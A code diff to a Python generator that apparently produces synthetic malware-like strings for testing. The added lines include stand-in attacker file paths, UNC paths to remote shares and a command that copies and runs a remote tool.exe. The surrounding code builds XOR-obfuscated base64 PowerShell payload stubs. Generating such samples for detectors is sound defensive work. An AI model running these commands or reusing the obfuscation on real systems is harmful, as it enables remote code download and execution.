@@ -247,7 +247,10 @@ def snippet(rng, words, depth=0):
         return b"[Byte[]] $b = " + b",".join(b"%d" % c for c in body) + tail
     if k == 31:
         return rng.choice([b"http://evil.example.com/a%2Fb/../c/./d.exe?x=%41", b"%APPDATA%\\Microsoft\\update.exe", b"C:\\Users\\%USERNAME%\\run.dll",
-                           b"%TEMP%\\stage2.exe", b"%SystemRoot%\\System32\\cmd.exe", b"%PUBLIC%\\Documents\\a.exe", b"%HOME%\\x\\y.exe"])
+                           b"%TEMP%\\stage2.exe", b"%SystemRoot%\\System32\\cmd.exe", b"%PUBLIC%\\Documents\\a.exe", b"%HOME%\\x\\y.exe",
+                           # UNC / device paths whose server is a domain name or an address (seeded change c09ac: a cached host node)
+                           b"\\\\fileserver.example.com\\share\\x.exe", b"\\\\?\\UNC\\files.evil.example.com\\c$\\a.dll",
+                           b"copy \\\\cdn.example.org\\pub\\tool.exe . & \\\\cdn.example.org\\pub\\tool.exe /s", b"\\\\10.1.2.3\\admin$\\svc.exe"])
     if k == 16:
         key = rng.choice([7, 35, 77, 128, 255])
         return b'[System.Convert]::FromBase64String("' + base64.b64encode(bytes(c ^ key for c in p)) + b'") -bxor ' + str(key).encode()
